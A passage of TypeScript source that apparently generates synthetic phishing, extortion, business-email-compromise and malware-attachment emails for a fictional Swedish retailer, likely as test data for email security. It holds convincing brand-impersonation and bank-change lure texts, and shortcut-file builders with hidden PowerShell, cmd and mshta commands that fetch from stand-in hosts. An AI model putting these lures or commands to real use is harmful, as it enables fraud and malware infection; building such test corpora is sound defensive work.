  const look = lookalike(r, 'fb', ['businessinvite', 'bm-access', 'partner-request'], ['com', 'net', 'app']);
  return brandPhish(r, {
    brand: 'Meta Business Suite',
    color: '#0866ff',
    lang: 'en',
    to: pick(r, [addr(MARKETING), addr(INFLUENCER)]),
    real: 'facebookmail.com',
    look,
    names: ['Meta for Business', 'Facebook', 'Meta Business Suite'],
    locals: ['notification', 'business-invite', 'noreply'],
    subject: pick(r, [
      `${agency} invited you to access their business portfolio`,
      `You've been added as a partner to ${agency}`,
      'Pending request: share your Page with a partner',
    ]),
    blocks: [
      `${pick(r, ['Jesper', 'Amanda', 'Viktor', 'Nora'])} from **${agency}** invited you to join their business portfolio as an admin. Accept the invitation to manage assets together.`,
      'This invitation expires in 7 days.',
      {
        button: {
          label: 'Accept invitation',
          href: landing(r, look, 'bm-invite', `invitation/?token=${urlsafe(r, 40)}`),
        },
      },
    ],
    footer: [
      'This message was sent to you by Meta. Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025',
    ],
  });
});

const googleAds = T('ad-platform-suspension', 'google-ads-suspended', (r) => {
  const lang: Lang = pick(r, ['en', 'sv']);
  const look = lookalike(
    r,
    'google-ads',
    ['support', 'policy', 'billing', 'appeal'],
    ['com', 'net', 'help', 'site'],
  );
  const cid = `${digits(r, 3)}-${digits(r, 3)}-${digits(r, 4)}`;
  return brandPhish(r, {
    brand: 'Google Ads',
    color: '#1a73e8',
    lang,
    to: pick(r, [addr(MARKETING), addr(ECOM)]),
    real: 'google.com',
    look,
    names: ['Google Ads', 'Google Ads Team', 'Google Ads Policy'],
    locals: ['ads-account-noreply', 'ads-noreply', 'policy'],
    subject:
      lang === 'en'
        ? pick(r, [
            `Your Google Ads account ${cid} has been suspended`,
            'Suspended: Circumventing systems policy',
            'Payment declined – your ads have stopped',
          ])
        : pick(r, [
            `Ditt Google Ads-konto ${cid} har stängts av`,
            'Dina annonser har stoppats – betalningen avvisades',
          ]),
    blocks:
      lang === 'en'
        ? [
            'Hello,',
            `Your Google Ads account (Customer ID ${cid}) has been suspended due to a violation of the Circumventing systems policy. Your ads will not run while the account is suspended.`,
            'If you believe this was a mistake, you can appeal the decision. Please sign in with the Google account that manages this Ads account.',
            {
              button: {
                label: 'Appeal the decision',
                href: landing(r, look, 'gads', `aw/policy/appeal?ocid=${digits(r, 9)}`),
              },
            },
            'The Google Ads Team',
          ]
        : [
            'Hej,',
            `Ditt Google Ads-konto (kund-id ${cid}) har stängts av på grund av överträdelse av policyn om att kringgå system. Dina annonser visas inte så länge kontot är avstängt.`,
            'Om du anser att beslutet är felaktigt kan du överklaga. Logga in med det Google-konto som hanterar annonskontot.',
            {
              button: {
                label: 'Överklaga beslutet',
                href: landing(r, look, 'gads', `aw/policy/appeal?ocid=${digits(r, 9)}`),
              },
            },
            'Google Ads-teamet',
          ],
    footer: ['Google Ireland Ltd., Gordon House, Barrow Street, Dublin 4, Ireland'],
  });
});

const trustpilotFlag = T('review-platform-phish', 'trustpilot-profile-flagged', (r) => {
  const look = lookalike(
    r,
    'trustpilot',
    ['business', 'support', 'review-center', 'b2b'],
    ['com', 'net', 'online'],
  );
  const stars = int(r, 1, 2);
  return brandPhish(r, {
    brand: 'Trustpilot',
    color: '#00b67a',
    lang: 'en',
    to: pick(r, [addr(MARKETING), BOX.cs, addr(CS_SV)]),
    real: 'trustpilot.com',
    look,
    names: ['Trustpilot Business', 'Trustpilot', 'Trustpilot Compliance'],
    locals: ['noreply', 'business', 'compliance'],
    subject: pick(r, [
      'Your business profile has been flagged',
      `New ${stars}-star review requires your response`,
      'Verify ownership of fjallspar.se to keep your TrustScore',
    ]),
    blocks: [
      'Hi,',
      pick(r, [
        'We have detected unusual review activity on your business profile. To avoid a consumer warning being shown on your profile, please verify ownership of your domain.',
        `A customer has left a ${stars}-star review mentioning fraud. Reviews reported as fraud are published with a warning unless the business responds within 24 hours.`,
      ]),
      {
        button: {
          label: pick(r, ['Verify profile', 'Respond to review', 'Log in to Trustpilot Business']),
          href: landing(r, look, 'tp-business', `login?redirect=reviews/${hex(r, 24)}`),
        },
      },
      'Kind regards,\nTrustpilot Content Integrity Team',
    ],
    footer: ['Trustpilot A/S, Pilestræde 58, 5th floor, 1112 Copenhagen K, Denmark'],
  });
});

const reviewExtortion = T('review-extortion', 'one-star-review-extortion', (r) => {
  const btc = `bc1q${token(r, 38)}`;
  const sum = pick(r, ['0.05', '0.08', '0.12', '0.1']);
  const from: Addr = {
    name: pick(r, ['Reputation Services', 'R.M.', 'Review Team', '']) || undefined,
    address: freemail(r, pick(r, ['reviewteam', 'repmgmt', 'starsforce', 'onlinerep'])),
  };
  const n = pick(r, ['50', '100', '200']);
  return {
    from,
    to: pick(r, [BOX.info, BOX.cs, addr(CEO), BOX.marketing]),
    subject: pick(r, [
      'Your company reputation',
      'Regarding your Trustpilot and Google reviews',
      `${n} reviews`,
      'Important for the owner',
    ]),
    auth: PASS,
    via: from.address.endsWith('gmail.com') ? 'gmail' : 'direct',
    lang: 'en',
    ...letter({
      style: 'plain',
      parts: 'text',
      blocks: [
        'Hello,',
        `We are a team that manages online reviews. Unless you pay ${sum} BTC to the address below within 72 hours, we will publish ${n} negative reviews on your Trustpilot, Google and Prisjakt pages, and report your shop to the platforms for fraud.`,
        'We have done this to other shops and their ratings went from 4.5 to 1.8 in a week. It will take you months to recover, and your ads will become useless.',
        `BTC: ${btc}`,
        'After payment your shop will be left alone. Do not reply to this address, we do not read replies. We will know when the payment arrives.',
      ],
    }),
  };
});

const influencerZip = T('influencer-malware', 'influencer-protected-zip', (r) => {
  const handle = pick(r, [
    '@wild.tove',
    '@nordicpeaks_',
    '@hikewithmaja',
    '@outdoor.oscar',
    '@fjallvandraren',
    '@trailrunner.emma',
  ]);
  const agency = pick(r, [
    'Northwave Talent',
    'Bright Creators Agency',
    'Summit Influence',
    'Aurora Media Group',
  ]);
  const pw = `${pick(r, ['FJ', 'Nord', 'Collab', 'Brief'])}${digits(r, 4)}`;
  const inner = pick(r, [
    'Campaign_Brief_Fjallspar_2026.pdf.exe',
    'Media_Kit_and_Rates.scr',
    'Contract_Collaboration.pdf.lnk',
    'Influencer_Stats_Q2.exe',
    'Brief.js',
  ]);
  const name = pick(r, [
    'Media_Kit.zip',
    'Collaboration_Brief.zip',
    `${handle.replace(/[@._]/g, '')}_proposal.zip`,
    'Campaign_Materials.rar',
  ]);
  const content = protectedZip(inner, r.below(100000));
  const from: Addr = pick(r, [
    {
      name: `${pick(r, ['Olivia', 'Sebastian', 'Alice', 'Lucas'])} ${pick(r, ['Hart', 'Berg', 'Moreau', 'Nowak'])} | ${agency}`,
      address: freemail(r, agency.toLowerCase().split(' ')[0]),
    },
    {
      name: agency,
      address: `partnerships@${agency.toLowerCase().replace(/ /g, '')}.${pick(r, ['co', 'agency', 'studio', 'media'])}`,
    },
  ]);
  return {
    from,
    to: pick(r, [addr(INFLUENCER), addr(MARKETING), BOX.marketing, BOX.press]),
    subject: pick(r, [
      `Collaboration proposal – ${handle} x Fjällspår`,
      'Paid partnership inquiry (autumn campaign)',
      `Re: Brand collaboration ${handle}`,
      'Influencer campaign brief and rates',
    ]),
    auth: from.address.includes('gmail') || from.address.includes('outlook') ? PASS : registered(r),
    via: from.address.endsWith('gmail.com') ? 'gmail' : 'direct',
    lang: 'en',
    attachments: [
      {
        filename: name,
        type: name.endsWith('.rar') ? 'application/x-rar-compressed' : 'application/zip',
        content,
      },
    ],
    ...letter({
      style: chance(r, 0.5) ? 'gmail' : 'plain',
      parts: parts(r, 0.2, 0.4),
      blocks: [
        'Hi team,',
        `I'm reaching out on behalf of ${handle} (${int(r, 48, 420)}k followers on Instagram and TikTok, mostly Nordic hikers and campers). They have been using your gear privately and would love to do a paid collaboration for the ${pick(r, ['autumn', 'winter', 'spring', 'summer'])} season.`,
        `I've attached the media kit, audience statistics and our proposed rates. The archive is password protected for privacy – the password is **${pw}**.`,
        'Could you let me know by Friday? The creator has limited slots this season.',
        `Best,\n${from.name?.split(' | ')[0] ?? agency}\n${agency}`,
      ],
    }),
  };
});

const influencerLink = T('collab-download-lure', 'influencer-brief-download', (r) => {
  const handle = pick(r, [
    '@fjallmamman',
    '@villmarkslivet',
    '@sarekstigen',
    '@packrafting.se',
    '@toppturerna',
  ]);
  const link = pick(r, [
    `https://www.dropbox.com/scl/fi/${token(r, 21)}/Samarbete_${handle.replace(/[@.]/g, '')}.zip?rlkey=${token(r, 25)}&dl=1`,
    `https://drive.google.com/file/d/1${urlsafe(r, 32)}/view?usp=sharing`,
    `https://www.mediafire.com/file/${token(r, 15)}/Mediakit_2026.zip/file`,
    `https://${pick(r, ['1drv.ms/u/s!', 'we.tl/t-'])}${urlsafe(r, 12)}`,
    `${freeHost(r, 'mediakit')}download`,
  ]);
  const sender = pick(r, ['Ebba', 'Wilma', 'Hugo', 'Alva', 'Melker']);
  const from: Addr = {
    name: `${sender} ${pick(r, ['Ström', 'Nilsson', 'Falk', 'Hedlund'])}`,
    address: freemail(r, `${sender.toLowerCase()}${pick(r, ['.collab', '.media', 'creates'])}`),
  };
  return {
    from,
    to: pick(r, [addr(INFLUENCER), addr(MARKETING), BOX.marketing]),
    subject: pick(r, [
      `Samarbetsförslag ${handle} 🏔️`,
      'Förfrågan om samarbete – vintersäsongen',
      `Mediakit + upplägg (${handle})`,
    ]),
    auth: PASS,
    via: from.address.endsWith('gmail.com')
      ? 'gmail'
      : from.address.includes('outlook') || from.address.includes('hotmail')
        ? 'outlook-consumer'
        : 'direct',
    lang: 'sv',
    ...letter({
      style: 'gmail',
      parts: parts(r, 0.1, 0.3),
      blocks: [
        'Hej!',
        `Jag heter ${from.name} och driver kontot ${handle} (${int(r, 30, 260)}k följare). Jag har använt era produkter på flera turer och skulle gärna göra ett betalt samarbete inför säsongen.`,
        `Jag har samlat mediakit, statistik och ett förslag på upplägg här: [ladda ner mediakit](${link})`,
        pick(r, [
          'Filen är packad – öppna dokumentet "Upplägg" i mappen så ser du priserna.',
          'Öppna filen på datorn, den funkar inte i mobilen.',
          '',
        ]),
        `Hör av dig om det låter intressant!\n\nMvh ${from.name}`,
      ].filter(Boolean),
    }),
  };
});

// ---------------------------------------------------------------------------------------------------------
// Customers and authorities

const complaintLnk = T('customer-complaint-malware', 'complaint-photos-lnk-zip', (r) => {
  const c = customer(r, 'sv');
  const p = product(r);
  const o = orderNo(r);
  const inner = pick(r, [
    `IMG_${digits(r, 4)}.jpg.lnk`,
    `Bilder_${o}.lnk`,
    `skada_${p.sv.split(' ')[0].toLowerCase()}.pdf.lnk`,
    `kvitto_och_bilder.js`,
  ]);
  const content = inner.endsWith('.lnk')
    ? zipWith(
        inner,
        lnkFile(
          `C:\\Windows\\System32\\${pick(r, ['cmd.exe /c', 'WindowsPowerShell\\v1.0\\powershell.exe -w h -c', 'mshta.exe'])} ${pick(r, ['https://', '\\\\'])}${token(r, 8)}.${pick(r, ['top', 'cloud', 'xyz'])}/${token(r, 6)}`,
        ),
      )
    : zipOf(inner);
  const zipName = pick(r, [
    `Bilder_${o}.zip`,
    'bilder_reklamation.zip',
    `Reklamation_${o}.zip`,
    'IMG_skador.zip',
  ]);
  return {
    from: c,
    to: pick(r, [BOX.cs, addr(CS_SV), BOX.info]),
    subject: pick(r, [
      `Reklamation order ${o}`,
      `Trasig ${p.sv.toLowerCase()} – bilder bifogade`,
      `Ang. beställning ${o}`,
      'Reklamation!!',
    ]),
    auth: PASS,
    via: c.address.endsWith('gmail.com')
      ? 'gmail'
      : c.address.endsWith('icloud.com')
        ? 'apple'
        : c.address.includes('outlook') || c.address.includes('hotmail') || c.address.includes('live')
          ? 'outlook-consumer'
          : 'direct',
    lang: 'sv',
    attachments: [{ filename: zipName, type: 'application/zip', content }],
    ...letter({
      style: chance(r, 0.5) ? 'gmail' : 'plain',
      parts: parts(r, 0.2, 0.4),
      blocks: [
        'Hej',
        pick(r, [
          `Jag beställde ${p.sv} (order ${o}) och den kom trasig. Sömmen har gått upp redan efter första användningen. Jag bifogar bilder så ni ser skadan.`,
          `Jag har fortfarande inte fått pengarna tillbaka för min retur av ${p.sv}. Jag har bifogat bilder på kvittot från PostNord och på varan.`,
          `Varan jag fick stämmer inte med beskrivningen på er sida. Se bifogade bilder, jag vill ha en ny eller pengarna tillbaka.`,
        ]),
        pick(r, [
          'Bilderna ligger i zip-filen eftersom de var för stora.',
          'Jag zippade bilderna, det var för många.',
          'Öppna bilagan på datorn.',
        ]),
        `Jag förväntar mig svar inom ${pick(r, ['två dagar', 'tre dagar', 'en vecka'])}, annars kontaktar jag Allmänna reklamationsnämnden.`,
        `Mvh\n${c.name}`,
      ],
    }),
  };
});

const customerIso = T('disk-image-attachment', 'customer-photos-disk-image', (r) => {
  const c = customer(r, 'en');
  const o = orderNo(r);
  const p = product(r);
  const ext = pick(r, ['iso', 'img', 'vhd']);
  const name = pick(r, [
    `Photos_${o}.${ext}`,
    `damaged_item_pictures.${ext}`,
    `IMG_${digits(r, 4)}-${digits(r, 4)}.${ext}`,
  ]);
  return {
    from: c,
    to: pick(r, [BOX.cs, BOX.info, BOX.orders]),
    subject: pick(r, [
      `Damaged item – order ${o}`,
      `Complaint: ${p.en} arrived broken`,
      `Wrong item received (${o})`,
      'Refund request with photos',
    ]),
    auth: PASS,
    via: c.address.endsWith('gmail.com')
      ? 'gmail'
      : c.address.includes('outlook') || c.address.includes('hotmail')
        ? 'outlook-consumer'
        : 'direct',
    lang: 'en',
    attachments: [
      {
        filename: name,
        type: ext === 'iso' ? 'application/x-iso9660-image' : 'application/octet-stream',
        content: diskImage(),
      },
    ],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.1, 0.5),
      blocks: [
        'Hello,',
        pick(r, [
          `My order ${o} arrived today and the ${p.en} is damaged. The box was crushed and there are marks all over it. I took pictures, they are attached (my phone saved them as an image file).`,
          `I received the wrong item in order ${o}. Instead of the ${p.en} I got something else. Please find photos attached.`,
        ]),
        'I would like a full refund including shipping. Please confirm as soon as possible.',
        `Kind regards,\n${c.name}`,
      ],
    }),
  };
});

const imyComplaint = T('authority-gdpr', 'imy-gdpr-complaint', (r) => {
  const d = randomDate(r);
  const dnr = `IMY-${d.getUTCFullYear()}-${int(r, 1000, 19999)}`;
  const link = pick(r, [
    `${freeHost(r, 'imy-arende')}arende/${dnr}`,
    `https://${lookalike(r, 'imy', ['arende', 'tillsyn', 'e-tjanst'], ['se.net', 'com', 'online'])}/dokument/${dnr}`,
    `${compromisedSite(r)}imy/${dnr}.php`,
  ]);
  const from: Addr = pick(r, [
    {
      name: 'Integritetsskyddsmyndigheten',
      address: `registrator@${lookalike(r, 'imy', ['myndighet', 'registrator', 'tillsyn'], ['se.net', 'com', 'org'])}`,
    },
    { name: 'IMY Registrator', address: hacked(r).address },
    { name: 'Integritetsskyddsmyndigheten (IMY)', address: 'imy@imy.se' },
  ]);
  return {
    from,
    to: pick(r, [BOX.info, addr(CEO), addr(IT), BOX.cs]),
    subject: pick(r, [
      `Klagomål enligt dataskyddsförordningen – dnr ${dnr}`,
      `Föreläggande om yttrande, ärende ${dnr}`,
      'Tillsynsärende: personuppgiftsincident hos er verksamhet',
    ]),
    date: d,
    auth: from.address.endsWith('imy.se') ? spoofed(r) : PASS,
    via: from.address.endsWith('imy.se') ? 'vps' : 'direct',
    lang: 'sv',
    ...letter({
      style: chance(r, 0.5) ? 'plain' : 'branded',
      parts: parts(r, 0.3, 0.2),
      brand: 'Integritetsskyddsmyndigheten',
      color: '#00305c',
      lang: 'sv',
      blocks: [
        `Till ${COMPANY} (org.nr ${ORG.orgNo})`,
        `Integritetsskyddsmyndigheten (IMY) har tagit emot ett klagomål från en kund som gör gällande att ${COMPANY} behandlat personuppgifter i strid med dataskyddsförordningen (GDPR), bland annat genom att dela orderuppgifter med tredje part utan rättslig grund.`,
        `Ni föreläggs att senast ${day(addDays(d, 7), 'sv')} yttra er över klagomålet. Klagomålet och underlaget finns tillgängligt i vår säkra e-tjänst: [Öppna ärende ${dnr}](${link})`,
        'Om yttrande inte inkommer kan IMY besluta om sanktionsavgift utan ytterligare kommunikation.',
        'Med vänlig hälsning\nEnheten för tillsyn\nIntegritetsskyddsmyndigheten\nBox 8114, 104 20 Stockholm',
      ],
    }),
  };
});

// ---------------------------------------------------------------------------------------------------------
// Finance: suppliers, invoices, BEC

const supplierBankCn = T('supplier-bank-change', 'supplier-bank-change-china', (r) => {
  const s = pick(
    r,
    SUPPLIERS.filter((x) => x.country === 'CN'),
  );
  const lookDomain = partnerLookalike(r, s.domain);
  const free = chance(r, 0.3);
  const from: Addr = {
    name: s.contact,
    address: free
      ? freemail(r, s.contact.toLowerCase().replace(' ', '.'))
      : `${s.contact.split(' ')[0].toLowerCase()}@${lookDomain}`,
  };
  const pi = `PI-${int(r, 2025, 2026)}${digits(r, 4)}`;
  const amt = amount(r, 18000, 140000);
  const newBank = pick(r, [
    ['HSBC Hong Kong', '808-214779-838', 'HSBCHKHHHKH'],
    ['DBS Bank (Hong Kong) Ltd', '7950-1663-48', 'DHBKHKHH'],
    ['Standard Chartered Bank Malaysia', '312-1-48820-77', 'SCBLMYKX'],
    ['Bank of Communications, Shanghai', '3100 6601 0018 8702 1147', 'COMMCNSHSHI'],
  ]);
  return {
    from,
    to: pick(r, [addr(AP), addr(CFO), BOX.ap, addr(LOGISTICS)]),
    cc: chance(r, 0.3) ? [addr(WAREHOUSE)] : undefined,
    replyTo: chance(r, 0.3)
      ? {
          name: s.contact,
          address: freemail(r, `${s.contact.split(' ')[0].toLowerCase()}.${s.domain.split('-')[0]}`),
        }
      : undefined,
    subject: pick(r, [
      `${pi} – payment information update`,
      `RE: Deposit for order ${pi}`,
      'Notice of change of company bank account',
      `Urgent: balance payment for shipment ${pi}`,
    ]),
    auth: free ? PASS : registered(r),
    via: free
      ? from.address.endsWith('gmail.com')
        ? 'gmail'
        : 'direct'
      : pick(r, ['vps', 'direct'] as const),
    tz: 480,
    lang: 'en',
    ...letter({
      style: chance(r, 0.6) ? 'outlook' : 'plain',
      parts: parts(r, 0.2, 0.3),
      lang: 'en',
      blocks: [
        pick(r, ['Dear Sara,', 'Dear Sir/Madam,', 'Dear friend,', 'Dear Fjallspar team,']),
        pick(r, [
          `Hope you are doing well. Please note that due to our annual audit, our company account in ${s.bank} is under maintenance and cannot receive foreign payments at the moment.`,
          'We would like to inform you that our company has changed the receiving bank account because of new tax regulations for export companies.',
        ]),
        `Kindly arrange the balance payment of **USD ${amt.toFixed(2)}** for ${pi} to our new account below, so we can release the goods for loading this week:`,
        {
          rows: [
            ['Beneficiary', s.name],
            ['Bank', newBank[0]],
            ['Account no.', newBank[1]],
            ['SWIFT', newBank[2]],
          ],
        },
        pick(r, [
          'Please do not pay to the old account anymore. Send us the bank slip once done.',
          'Please kindly keep this confidential and send the payment copy to this email only.',
          'Our finance will check today. Please help to update your system.',
        ]),
        `Best regards,\n${s.contact}\nSales Manager\n${s.name}`,
      ],
    }),
  };
});

const threadHijack = T('thread-hijack', 'supplier-thread-hijack', (r) => {
  const s = pick(
    r,
    SUPPLIERS.filter((x) => x.country !== 'CN'),
  );
  const me = pick(r, [AP, CFO, LOGISTICS, CONTROLLER]);
  const d0 = randomDate(r);
  const d = addDays(d0, int(r, 2, 12));
  const inv = `${int(r, 2025, 2026)}-${digits(r, 5)}`;
  const subj0 = pick(r, [
    `Invoice ${inv}`,
    `Order confirmation ${inv}`,
    `Shipment ${inv} / delivery week ${int(r, 2, 50)}`,
    'Autumn/winter pre-order',
  ]);
  const compromised = chance(r, 0.6);
  const from: Addr = {
    name: s.contact,
    address: compromised
      ? `${s.contact.split(' ')[0].toLowerCase()}@${s.domain}`
      : `${s.contact.split(' ')[0].toLowerCase()}@${partnerLookalike(r, s.domain)}`,
  };
  const link = pick(r, [
    `https://${s.domain.split('.')[0]}-my.sharepoint.com.${token(r, 5)}.${pick(r, ['workers.dev', 'pages.dev'])}/:b:/g/${urlsafe(r, 20)}`,
    `${freeHost(r, 'doc-share')}view?doc=${inv}`,
    `https://${pick(r, ['docsend.com/view/', 'www.canva.com/design/', 'app.box.com/s/'])}${token(r, 14)}`,
    `${compromisedSite(r)}invoice/${inv}/`,
  ]);
  const quoteText = `Hi ${s.contact.split(' ')[0]},\n\nThanks, we received the goods. Could you please send the invoice for ${inv} again with our PO number on it? Our system rejected the first one.\n\nBest regards,\n${full(me)}\n${me.titleEn}\n${COMPANY}`;
  const head = quoteHead(chance(r, 0.5) ? 'outlook' : 'gmail', 'en', addr(me), d0, from, subj0);
  return {
    from,
    to: addr(me),
    subject: `${pick(r, ['RE: ', 'Re: ', 'AW: ', 'SV: '])}${subj0}`,
    date: d,
    auth: compromised ? PASS : registered(r),
    via: compromised ? 'm365' : 'vps',
    inReplyTo: `<${upper(r, 10)}${hex(r, 8)}@${pick(r, ['AM9PR07MB1234', 'DB9PR02MB5521'])}.eurprd07.prod.outlook.com>`,
    lang: 'en',
    ...letter({
      style: 'outlook',
      parts: parts(r, 0.3, 0.1),
      lang: 'en',
      blocks: [
        `Hi ${me.first},`,
        pick(r, [
          `Please find the corrected invoice with the PO number here: [${inv}.pdf](${link}) – you may need to sign in with your work account to view it, as our files are now protected.`,
          `Sorry for the delay. The updated invoice and the new payment details are in the shared folder: [View document](${link})`,
          `Attached via secure link due to size: [Invoice_${inv}.pdf](${link})\nPlease note our bank details have changed, see page 2.`,
        ]),
        `Best regards,\n${s.contact}\n${s.name}`,
        { quote: { head, text: quoteText } },
      ],
    }),
  };
});

const fortnoxInvoice = T('fake-invoice-link', 'fortnox-invoice-link', (r) => {
  const look = pick(r, [
    lookalike(
      r,
      'fortnox',
      ['faktura', 'e-faktura', 'invoice', 'arkiv'],
      ['com', 'se.net', 'online', 'info'],
    ),
    'fortnox-fakturaportal.com',
  ]);
  const supplier = pick(r, [
    'Hallands Emballage AB',
    'Västkust Transport & Logistik AB',
    'Nordic Packaging Solutions',
    'Göteborgs Städtjänst AB',
    'Tryckeriet i Mölndal',
  ]);
  const inv = int(r, 1000, 99999);
  const amt = amount(r, 4000, 96000);
  return brandPhish(r, {
    brand: 'Fortnox',
    color: '#0c3d2b',
    lang: 'sv',
    to: pick(r, [BOX.ap, addr(AP), addr(CFO)]),
    real: 'fortnox.se',
    look,
    names: [`${supplier} via Fortnox`, 'Fortnox Faktura', supplier],
    locals: ['faktura', 'no-reply', 'invoice'],
    subject: pick(r, [
      `Faktura ${inv} från ${supplier}`,
      `Påminnelse: faktura ${inv} förfallen`,
      `Ny faktura från ${supplier}`,
    ]),
    blocks: [
      'Hej!',
      `${supplier} har skickat en faktura till ${COMPANY} via Fortnox.`,
      {
        rows: [
          ['Fakturanummer', String(inv)],
          ['Belopp', money(amt, 'SEK', 'sv')],
          ['Förfallodatum', day(addDays(randomDate(r), 10), 'sv', true)],
        ],
      },
      {
        button: {
          label: pick(r, ['Visa faktura', 'Öppna fakturan', 'Ladda ner PDF']),
          href: landing(r, look, 'fortnox-faktura', `f/${uuid(r)}`),
        },
      },
      'Frågor om fakturan besvaras av avsändaren.',
    ],
    footer: ['Fortnox AB, Box 427, 351 06 Växjö'],
    modes: { look: 5, hacked: 4, spoof: 1 },
  });
});

const htmlSmuggling = T('html-smuggling', 'invoice-html-smuggling', (r) => {
  const h = hacked(r);
  const inv = `${digits(r, 5)}`;
  const inner = pick(r, [
    `Faktura_${inv}.js`,
    `Faktura_${inv}.vbs`,
    `Betalningsunderlag_${inv}.hta`,
    `Faktura_${inv}.pdf.lnk`,
  ]);
  const bytes = inner.endsWith('.lnk')
    ? lnkFile('C:\\Windows\\System32\\conhost.exe --headless powershell -ep bypass')
    : scriptText(inner.split('.').pop() as 'js' | 'vbs' | 'hta');
  const file = pick(r, [`Faktura_${inv}.html`, `Faktura-${inv}.htm`, `Dokument_${inv}.shtml`]);
  const to = pick(r, [BOX.ap, addr(AP), addr(CONTROLLER)]);
  return {
    from: { name: pick(r, [h.org, `${h.org} Ekonomi`, 'Fakturering']), address: h.address },
    to,
    subject: pick(r, [
      `Faktura ${inv}`,
      `Fakturakopia ${inv}`,
      `Betalningspåminnelse – faktura ${inv}`,
      `Ny faktura från ${h.org}`,
    ]),
    auth: PASS,
    via: pick(r, ['m365', 'direct'] as const),
    lang: 'sv',
    attachments: [htmlFile(file, smugglingPage(r, inner, bytes, `Faktura ${inv}`))],
    ...letter({
      style: chance(r, 0.5) ? 'outlook' : 'plain',
      parts: parts(r, 0.3, 0.3),
      lang: 'sv',
      blocks: [
        'Hej,',
        pick(r, [
          `Bifogat finner ni faktura ${inv}. Vänligen bekräfta mottagandet.`,
          `Se bifogad fakturakopia. Fakturan förföll ${day(randomDate(r), 'sv', true)}, vänligen betala snarast.`,
          'Här kommer fakturan enligt överenskommelse.',
        ]),
        `Med vänlig hälsning\n${pick(r, ['Anna', 'Maria', 'Lars', 'Peter'])}\n${h.org}`,
      ],
    }),
  };
});

const jsZip = T('script-archive', 'payment-reminder-script-zip', (r) => {
  const h = hacked(r);
  const inv = digits(r, 6);
  const inner = pick(r, [
    `Påminnelse_${inv}.js`,
    `Faktura_${inv}.wsf`,
    `Betalningskrav_${inv}.vbs`,
    `Specifikation_${inv}.bat`,
  ]);
  const zipName = pick(r, [`Påminnelse_${inv}.zip`, `Faktura_${inv}.zip`, `Dokument_${digits(r, 3)}.zip`]);
  const pw = chance(r, 0.35) ? digits(r, 4) : '';
  const content = pw
    ? protectedZip(inner, Number(inv))
    : zipWith(inner, scriptText(inner.split('.').pop() as 'js' | 'wsf' | 'vbs' | 'bat'));
  return {
    from: { name: pick(r, [h.org, 'Ekonomiavdelningen', `Kundreskontra ${h.org}`]), address: h.address },
    to: pick(r, [BOX.ap, addr(AP), BOX.finance]),
    subject: pick(r, [
      `Påminnelse faktura ${inv}`,
      `Obetald faktura ${inv} – sista påminnelse`,
      `Faktura ${inv} förfallen`,
    ]),
    auth: PASS,
    via: 'direct',
    lang: 'sv',
    attachments: [{ filename: zipName, type: 'application/zip', content }],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.2, 0.5),
      blocks: [
        'Hej,',
        `Enligt våra noteringar är faktura ${inv} fortfarande obetald. Specifikation bifogas.`,
        pw
          ? `Dokumentet är lösenordsskyddat enligt vår säkerhetspolicy. Lösenord: **${pw}**`
          : 'Vänligen se bifogad fil.',
        `Om betalning inte sker inom 5 dagar överlämnas ärendet till inkasso.\n\nMvh\n${h.org}`,
      ],
    }),
  };
});

const proformaXlsm = T('macro-workbook', 'proforma-xlsm', (r) => {
  const s = pick(
    r,
    SUPPLIERS.filter((x) => x.country === 'CN'),
  );
  const look = chance(r, 0.3) ? freemail(r, 'sales').split('@')[1] : partnerLookalike(r, s.domain);
  const pi = `PI${digits(r, 6)}`;
  const file = pick(r, [
    `${pi}_Proforma_Invoice.xlsm`,
    `PI_and_Packing_List_${pi}.xlsm`,
    `Order_Confirmation_${pi}.xlam`,
  ]);
  const from: Addr = {
    name: `${s.contact} (${s.name.split(' ')[1]})`,
    address: `${pick(r, ['sales', s.contact.split(' ')[0].toLowerCase(), 'export'])}@${look}`,
  };
  return {
    from,
    to: pick(r, [addr(LOGISTICS), addr(AP), addr(WAREHOUSE), BOX.ap]),
    subject: pick(r, [
      `PI ${pi} and packing list`,
      `Revised proforma invoice ${pi}`,
      `Order confirmation ${pi} – please check`,
    ]),
    auth: look.endsWith('gmail.com') || look.endsWith('outlook.com') ? PASS : registered(r),
    via: look.endsWith('gmail.com') ? 'gmail' : 'vps',
    tz: 480,
    lang: 'en',
    attachments: [
      { filename: file, type: 'application/vnd.ms-excel.sheet.macroEnabled.12', content: macroWorkbook() },
    ],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.2, 0.4),
      blocks: [
        pick(r, ['Dear Ahmed,', 'Dear customer,', 'Dear Sara,', 'Hello,']),
        `Please check the attached revised PI ${pi} and packing list for the ${pick(r, ['down jackets', 'tents', 'backpacks', 'fleece jackets'])} order. Some unit prices changed because of the raw material cost.`,
        'Please enable editing and content to see the full calculation. Kindly confirm so we can arrange the booking with the forwarder.',
        `Thanks & best regards\n${s.contact}\n${s.name}`,
      ],
    }),
  };
});

const rfqDoc = T('macro-document', 'wholesale-rfq-macro-doc', (r) => {
  const company = pick(r, [
    'Alpine Sport Distribution s.r.o.',
    'Baltic Outdoor Wholesale UAB',
    'Hochland Sporthandel KG',
    'Scandi Retail Group Oy',
  ]);
  const look = company
    .toLowerCase()
    .split(' ')
    .slice(0, 2)
    .join('-')
    .replace(/[^a-z-]/g, '');
  const file = pick(r, [
    'RFQ_Order_List.doc',
    `Purchase_Order_${digits(r, 5)}.doc`,
    'Product_Inquiry.docm',
    'Wholesale_Request.doc',
  ]);
  const from: Addr = {
    name: `${pick(r, ['Martin', 'Jana', 'Tomas', 'Petra'])} ${pick(r, ['Novak', 'Kazlauskas', 'Maier', 'Lahti'])}`,
    address: `purchasing@${look}.${pick(r, ['com', 'eu', 'net'])}`,
  };
  return {
    from,
    to: pick(r, [BOX.info, BOX.orders, addr(ECOM), addr(CEO)]),
    subject: pick(r, [
      'Request for quotation – wholesale order',
      'Purchase inquiry',
      `New order ${digits(r, 5)}`,
      'RFQ: outdoor equipment for our stores',
    ]),
    auth: pick(r, [PASS, registered(r) ?? PASS]),
    via: 'vps',
    lang: 'en',
    attachments: [
      {
        filename: file,
        type: file.endsWith('docm')
          ? 'application/vnd.ms-word.document.macroEnabled.12'
          : 'application/msword',
        content: legacyMacroDocument(),
      },
    ],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.2, 0.4),
      blocks: [
        'Good day,',
        `We are ${company}, a distributor of outdoor equipment with ${int(r, 8, 60)} stores. We are interested in your products and would like to receive your best wholesale price for the items in the attached list.`,
